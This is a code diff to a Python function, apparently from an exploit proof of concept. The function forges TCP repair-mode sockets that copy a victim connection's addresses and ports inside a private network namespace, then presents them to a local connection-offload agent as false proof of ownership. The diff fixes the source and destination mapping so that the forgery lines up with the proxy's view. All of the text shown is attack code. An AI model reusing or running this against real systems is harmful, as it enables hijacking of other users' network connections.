@@ -80,13 +80,13 @@ def forge(args) -> dict:
     """In a user+network namespace of our own: repair-mode sockets with the
     victim's four-tuples, offered to the agent as proof of ownership."""
     victim = json.loads(args.victim)
-    c, srv = victim["client"], victim["server"]  # as packets arrive / leave the proxy
+    c, srv = victim["client"], victim["server"]  # both as packets arrive at the proxy
     for cmd in (
         ["ip", "link", "set", "lo", "up"],
         ["ip", "addr", "add", f"{c['dst']}/32", "dev", "lo"],
-        ["ip", "addr", "add", f"{srv['src']}/32", "dev", "lo"],
+        ["ip", "addr", "add", f"{srv['dst']}/32", "dev", "lo"],
         ["ip", "route", "add", f"{c['src']}/32", "dev", "lo"],
-        ["ip", "route", "add", f"{srv['dst']}/32", "dev", "lo"],
+        ["ip", "route", "add", f"{srv['src']}/32", "dev", "lo"],
     ):
         subprocess.run(cmd, check=True, capture_output=True)
 
@@ -98,7 +98,7 @@ def forge(args) -> dict:
         return s
 
     a = forged((c["dst"], c["dport"]), (c["src"], c["sport"]))
-    b = forged((srv["src"], srv["sport"]), (srv["dst"], srv["dport"]))
+    b = forged((srv["dst"], srv["dport"]), (srv["src"], srv["sport"]))
     out = {"forged_state": [tcp_state(a), tcp_state(b)]}
     with agent(args.socket) as s:
         for op in ("register", "hold", "unhold", "offload"):
